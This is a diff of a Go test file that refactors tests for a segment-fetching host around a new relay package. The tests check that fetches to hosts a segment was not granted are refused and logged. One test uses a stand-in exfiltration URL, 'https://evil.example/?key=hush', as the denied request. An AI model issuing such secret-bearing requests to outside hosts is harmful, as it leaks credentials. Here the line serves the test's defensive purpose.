@@ -9,6 +9,7 @@ import (
 	"github.com/data-wise/aiterm/host/capability"
 	"github.com/data-wise/aiterm/host/config"
 	"github.com/data-wise/aiterm/host/fetch"
+	"github.com/data-wise/aiterm/host/relay"
 	"github.com/data-wise/aiterm/host/span"
 )
 
@@ -43,20 +44,19 @@ func TestPagesOfARememberedSegment(t *testing.T) {
 	now := time.Now()
 	render := func(want string, remembered bool, asks ...string) {
 		t.Helper()
-		r := w.at(now, `{}`)
-		r.modules = &modules{}
-		task := r.tasks(plan, &capability.Session{Now: now})[0]
-		task.run = asksFor(t, asks...)
-		o := runOne(task)
-		if err := r.remember(plan, []outcome{*o}); err != nil {
-			t.Fatal(err)
+		r := w.at(now, `{}`, plan)
+		task := r.tasks()[0]
+		task.Run = asksFor(t, asks...)
+		o := relay.One(task)
+		if !r.Keep([]relay.Outcome{*o}) {
+			t.Fatal(r.Messages)
 		}
 		text := ""
-		for _, s := range o.spans {
+		for _, s := range o.Spans {
 			text += s.Text
 		}
-		if text != want || o.remembered != remembered {
-			t.Errorf("it shows %q, remembered is %v; want %q, %v", text, o.remembered, want, remembered)
+		if text != want || o.Remembered != remembered {
+			t.Errorf("it shows %q, remembered is %v; want %q, %v", text, o.Remembered, want, remembered)
 		}
 		var wishes []string
 		for _, wish := range r.pages["page"].Wishes() {
@@ -98,12 +98,11 @@ func TestPagesOfARememberedSegment(t *testing.T) {
 	render("second", false, a)
 
 	plan.Segments[0].Grant = []string{"http:other.example"}
-	r := w.at(now, `{}`)
-	r.modules = &modules{}
-	task := r.tasks(plan, &capability.Session{Now: now})[0]
-	task.run = asksFor(t, a)
-	if o := runOne(task); len(o.spans) > 0 || len(r.pages["page"].Refusals()) != 1 {
-		t.Errorf("without the grant it shows %v; refusals are %q", o.spans, r.pages["page"].Refusals())
+	r := w.at(now, `{}`, plan)
+	task := r.tasks()[0]
+	task.Run = asksFor(t, a)
+	if o := relay.One(task); len(o.Spans) > 0 || len(r.pages["page"].Refusals()) != 1 {
+		t.Errorf("without the grant it shows %v; refusals are %q", o.Spans, r.pages["page"].Refusals())
 	}
 }
 
@@ -114,19 +113,18 @@ func TestRefusedPageIsLogged(t *testing.T) {
 		Lines:    []config.Line{{Left: []string{"page", "late"}}},
 		Segments: []config.Segment{{Name: "page", Grant: []string{"http:api.example.com"}}, {Name: "late", Grant: []string{"http:api.example.com"}}},
 	}
-	r := w.at(time.Now(), `{}`)
-	r.memo = nil
-	r.modules = &modules{}
-	for _, task := range r.tasks(plan, &capability.Session{}) {
-		runOne(task)
-		if err := asksFor(t, "https://evil.example/?key=hush")(task.call); err != nil {
+	r := w.at(time.Now(), `{}`, plan)
+	r.Memo = nil
+	for _, task := range r.tasks() {
+		relay.One(task)
+		if err := asksFor(t, "https://evil.example/?key=hush")(task.Call); err != nil {
 			t.Fatal(err)
 		}
 	}
 	r.Dirs.Cache = "" // nothing is kept
-	r.finish(plan, []outcome{{}, {late: true}})
+	r.finish([]relay.Outcome{{}, {Late: true}})
 	want := []string{`segment page: https://evil.example/?… is not fetched: "evil.example" was not granted: grant http:evil.example, if you trust the segment with it`}
-	if diff := cmp.Diff(want, r.messages); diff != "" {
+	if diff := cmp.Diff(want, r.Messages); diff != "" {
 		t.Errorf("messages (-want +got):\n%s", diff)
 	}
 }
